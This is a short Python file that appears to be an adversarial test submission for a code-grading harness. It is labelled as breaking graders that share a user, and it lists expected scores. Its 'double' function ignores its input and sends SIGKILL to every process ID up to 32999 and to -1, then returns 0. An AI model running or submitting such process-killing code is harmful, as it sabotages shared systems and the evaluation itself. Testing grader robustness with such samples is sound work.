"""Kills every process that it can name, all at once and by number."""
# falls: graders that share a user between submissions
# expect: double=0 softmax=4

# %% double-solution
import os
import signal


def double(x):
    for process in range(2, 33000):
        if process != os.getpid():
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return 0
